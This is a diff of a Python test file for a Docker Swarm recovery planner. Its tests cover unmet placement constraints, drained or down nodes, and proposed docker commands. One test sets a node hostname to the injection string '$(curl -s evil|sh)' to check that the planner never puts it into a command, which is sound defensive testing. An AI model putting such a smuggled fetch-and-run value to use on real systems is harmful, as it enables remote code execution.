@@ -8,7 +8,8 @@ from hypothesis import strategies as st
 
 from recovery.planning.findings.constraints import is_met, unmet
 from recovery.swarm.evidence import Ended, Failure, NodeSeen, ServiceSeen, SwarmSeen
-from tests.unit.planning.findings.looks import look, named, only
+from recovery.swarm.found import SwarmFacts
+from tests.unit.planning.findings.looks import HEALTHY, look, named, only
 
 LONG = "task: non-zero exit (3): " + "no such table " * 40
 
@@ -86,10 +87,48 @@ def test_the_constraint_that_nobody_meets_is_named_and_taken_off() -> None:
     found = only(look("manager-a", swarm=seen(waiting("node.labels.disk == ssd", "node.role==worker"))))
     assert found.name == "unplaced@web"
     assert found.trouble.endswith("no node that is Ready and active meets node.labels.disk == ssd")
-    remove, label = found.proposals
+    remove, label, other = found.proposals
+    assert other.command.endswith("disk=ssd id-worker-2")
     assert remove.runs[0].text == "docker service update --detach --constraint-rm 'node.labels.disk == ssd' web"
-    assert label.command == "on manager-a: docker node update --label-add disk=ssd worker-1 | worker-2"
+    assert label.command == "on manager-a: docker node update --label-add disk=ssd id-worker-1"
+    assert label.effect == "lets worker-1 run it. Add the label in the stack file too"
     assert not label.runs
+
+
+AWAY = replace(NODES[0], attributes={**NODES[0].attributes, "state": "down"})
+DRAINED = replace(NODES[0], attributes={**NODES[0].attributes, "availability": "drain"})
+
+
+@pytest.mark.parametrize(
+    ("pinned", "told", "command"),
+    [
+        (AWAY, "worker-1 is down", "bring worker-1 back"),
+        (DRAINED, "worker-1 is drain", "requorum undrain worker-1"),
+        (replace(DRAINED, node="id-nobody"), "id-nobody is drain", "bring id-nobody back"),
+    ],
+    ids=["down", "drained", "not in the settings"],
+)
+def test_a_service_whose_node_is_away_is_started_nowhere_else(pinned: NodeSeen, told: str, command: str) -> None:
+    service = waiting("node.hostname==worker-1", "node.labels.disk==hdd")
+    found = only(look("manager-a", swarm=SwarmSeen((service,), (pinned, *NODES[1:]))))
+    assert found.trouble.endswith(f"only nodes that take no tasks meet its constraints: {told}")
+    assert [one.command for one in found.proposals] == [command]
+    assert not any(one.runs for one in found.proposals)
+
+
+def test_a_host_name_never_becomes_a_part_of_a_command() -> None:
+    hostile = replace(NODES[0], hostname="$(curl -s evil|sh)")
+    found = only(look("manager-a", swarm=SwarmSeen((waiting("node.labels.a==x"),), (hostile,))))
+    assert "evil" not in str(found)
+
+
+@pytest.mark.parametrize(("most", "count", "told"), [(5, 3, True), (5, 2, False), (3, 2, True), (1, 1, False)])
+def test_where_the_swarm_keeps_few_tasks_fewer_failures_are_a_loop(most: int, count: int, told: bool) -> None:
+    facts = SwarmFacts({"Orchestration": {"TaskHistoryRetentionLimit": most}})
+    leads = replace(HEALTHY.reports[0], swarm=facts)
+    survey = replace(HEALTHY, reports=(leads, *HEALTHY.reports[1:]))
+    service = replace(WEB, failures=failures(*(5.0 * n for n in range(1, count + 1))))
+    assert bool(named(look("manager-a", swarm=seen(service)), survey=survey)) is told
 
 
 def test_constraints_that_no_node_meets_together_are_told() -> None:
